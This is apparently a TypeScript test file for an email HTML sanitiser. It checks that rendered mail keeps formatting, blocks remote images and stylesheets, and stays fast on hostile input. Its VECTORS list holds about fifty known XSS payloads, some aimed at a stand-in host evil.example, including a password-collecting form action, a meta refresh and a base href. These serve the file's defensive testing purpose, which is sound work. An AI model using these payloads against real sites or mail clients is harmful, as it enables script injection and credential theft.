/** HTML of mails as it is shown: checked in the tree that a browser would build of it, not by its text. */

import fc from 'fast-check';
import { type DefaultTreeAdapterTypes, defaultTreeAdapter, parseFragment } from 'parse5';
import { describe, expect, it } from 'vitest';
import { safeHtml } from '../../src/mail/safe-html.ts';
import { fastest } from '../support/fastest.ts';

type Node = DefaultTreeAdapterTypes.Node;
type Element = DefaultTreeAdapterTypes.Element;

const PIXEL = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';
const shown = (html: string) => safeHtml(html, (id) => (id === 'logo@empresa' ? PIXEL : null));

function elements(html: string): Element[] {
  const found: Element[] = [];
  const walk = (node: Node): void => {
    if (defaultTreeAdapter.isElementNode(node)) found.push(node);
    if ('childNodes' in node) for (const child of node.childNodes) walk(child);
  };
  walk(parseFragment(html));
  return found;
}

function textOf(html: string): string {
  let text = '';
  const walk = (node: Node): void => {
    if (defaultTreeAdapter.isTextNode(node)) text += node.value;
    if ('childNodes' in node) for (const child of node.childNodes) walk(child);
  };
  walk(parseFragment(html));
  return text.replace(/\s+/g, ' ').trim();
}

const HARMLESS = new Set(
  'a abbr address b bdi bdo big blockquote br caption center cite code col colgroup dd del dfn div dl dt em font h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s samp small span strike strong sub sup table tbody td tfoot th thead tr tt u ul var wbr'.split(
    ' ',
  ),
);

/** What could run, load, submit or cover something; nothing of it may be left. */
function dangers(html: string): string[] {
  return elements(html).flatMap(({ tagName, namespaceURI, attrs }) => {
    const found: string[] = [];
    if (!HARMLESS.has(tagName) || namespaceURI !== 'http://www.w3.org/1999/xhtml') found.push(`<${tagName}>`);
    for (const { name, value } of attrs) {
      if (name.startsWith('on')) found.push(name);
      if (['srcset', 'background', 'action', 'formaction', 'srcdoc', 'id', 'name', 'class'].includes(name))
        found.push(name);
      if (name === 'href' && !/^(?:https?:\/\/|mailto:|tel:)/i.test(value)) found.push(`href=${value}`);
      if (name === 'src' && !value.startsWith('data:image/')) found.push(`src=${value}`);
      if (name === 'style' && /url|expression|import|behavior|binding|position|\\|javascript/i.test(value))
        found.push(`style=${value}`);
    }
    return found;
  });
}

const VECTORS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav\nascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example/x">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body { background: url(https://evil.example) }</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<div style="behavior:url(#x); -moz-binding: url(x)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
  '<div style="color:red;background-image:u\\72l(https://evil.example)">x</div>',
  '<div style="color:red/*;*/;background:/**/url(https://evil.example)">x</div>',
  '<body onload=alert(1)>x</body>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<img src=`x` onerror=alert(1)//>',
  '<<script>alert(1);//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<p title="</p><script>alert(1)</script>">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<template><script>alert(1)</script></template>',
  '<video poster="https://evil.example/x"><source src=x onerror=alert(1)></video>',
  '<table background="https://evil.example/x"><tr><td background="javascript:alert(1)">x</table>',
  '<img srcset="https://evil.example/x 2x">',
  '<details open ontoggle=alert(1)>x</details>',
  '<a href="https://x.example" onclick="alert(1)" id="location" name="body">x</a>',
  '<p class="notice" id="page">x</p>',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<img src="https://evil.example/x" style="background:url(https://evil.example/y)">',
  '<marquee onstart=alert(1)>x</marquee>',
];

describe('HTML that wants to run or load something', () => {
  it.each(VECTORS)('%j does not', (vector) => {
    expect(dangers(shown(`<p>antes</p>${vector}<p>después</p>`).html)).toEqual([]);
    expect(dangers(shown(vector).html)).toEqual([]);
  });

  it('stays harmless when vectors are cut and glued together', () => {
    const pieces = fc.array(
      fc
        .tuple(fc.constantFrom(...VECTORS), fc.nat(60), fc.nat(60))
        .map(([vector, from, length]) => vector.slice(from, from + length)),
      { maxLength: 8 },
    );
    fc.assert(
      fc.property(pieces, (parts) => {
        expect(dangers(shown(parts.join('')).html)).toEqual([]);
      }),
      { seed: 20_260_302, numRuns: 1000 },
    );
  });
});

describe('HTML as it is shown', () => {
  it('keeps what people write', () => {
    const html =
      '<h2>Título</h2><p style="color: #c00; text-align:center"><b>uno</b> <i>dos</i></p><ul><li>a</li></ul><table border="1"><tr><td colspan="2">x</td></tr></table>';
    const out = shown(html);
    expect(out).toMatchObject({ blocked: 0, truncated: false });
    expect(elements(out.html).map(({ tagName }) => tagName)).toEqual([
      'h2',
      'p',
      'b',
      'i',
      'ul',
      'li',
      'table',
      'tbody',
      'tr',
      'td',
    ]);
    expect(out.html).toContain('style="color:#c00;text-align:center"');
  });

  it('opens links in a window that knows nothing of this one', () => {
    const [link] = elements(shown('<a href="https://x.example/a?b=1&amp;c=2" rel="opener">x</a>').html);
    expect(Object.fromEntries(link?.attrs.map(({ name, value }) => [name, value]) ?? [])).toEqual({
      href: 'https://x.example/a?b=1&c=2',
      rel: 'noopener noreferrer nofollow',
      target: '_blank',
    });
  });

  it('shows the pictures that came with the mail, and only those', () => {
    const out = shown(
      '<img src="cid:logo@empresa" alt="Logo"><img src="cid:logo%40empresa"><img src="cid:otra"><img src="https://x.example/a.png" alt="Foto">',
    );
    expect(
      elements(out.html).flatMap(({ attrs }) => attrs.flatMap(({ name, value }) => (name === 'src' ? [value] : []))),
    ).toEqual([PIXEL, PIXEL]);
    expect(textOf(out.html)).toBe('[image][Foto]');
    expect(out.blocked).toBe(1);
  });

  it.each<[string, number]>([
    ['<img src="https://x.example/a.png" width=1 height=1>', 1],
    ['<img src="//x.example/a.png">', 1],
    ['<td background="https://x.example/a.png">', 1],
    ['<div style="background:url(https://x.example/a.png)">', 1],
    ['<link rel=stylesheet href="https://x.example/a.css">', 1],
    ['<style>@import url(https://x.example/a.css); p { background: url(a.png) }</style>', 3],
    ['<iframe src="https://x.example">', 1],
    ['<img src="cid:nadie"><p style="color:red">x</p>', 0],
  ])('counts what %j would have loaded: %i', (html, blocked) => {
    expect(shown(html).blocked).toBe(blocked);
  });

  it('leaves no gap for a picture that counts readers', () => {
    expect(textOf(shown('a<img src="https://x.example/t.gif" width="1" height="1" alt="">b').html)).toBe('ab');
  });

  it('bounds cells', () => {
    expect(shown('<table><tr><td colspan=20000 rowspan=20000>x</table>').html).toContain('colspan="100" rowspan="100"');
  });

  it('keeps the text of what is nested too deeply, and says where it stops reading', () => {
    const deep = shown(`${'<div>'.repeat(5000)}Hola`);
    expect(textOf(deep.html)).toBe('Hola');
    expect(elements(deep.html).length).toBeLessThanOrEqual(101);
    expect(shown(`<p>Hola</p>${' '.repeat(1_000_001)}`).truncated).toBe(true);
  });

  it.each<[string, string]>([
    ['nested divs', '<div>'.repeat(200_000)],
    ['nested tables', '<table><tr><td>'.repeat(60_000)],
    ['angle brackets', '<'.repeat(1_000_000)],
    ['attributes without end', `<a ${'b="'.repeat(330_000)}`],
    ['styles', `<p style="${'color:red;'.repeat(90_000)}">x`],
    ['a style without end', `<p style="color:${'a'.repeat(900_000)}`],
    ['style sheets', '<style>'.repeat(140_000)],
    ['pictures', '<img src=x>'.repeat(90_000)],
    ['comments without end', '<!--'.repeat(250_000)],
    ['closing tags', '</p>'.repeat(250_000)],
  ])('is there within two seconds for %s', (_, html) => {
    expect(fastest(() => shown(html))).toBeLessThan(2000);
  });
});
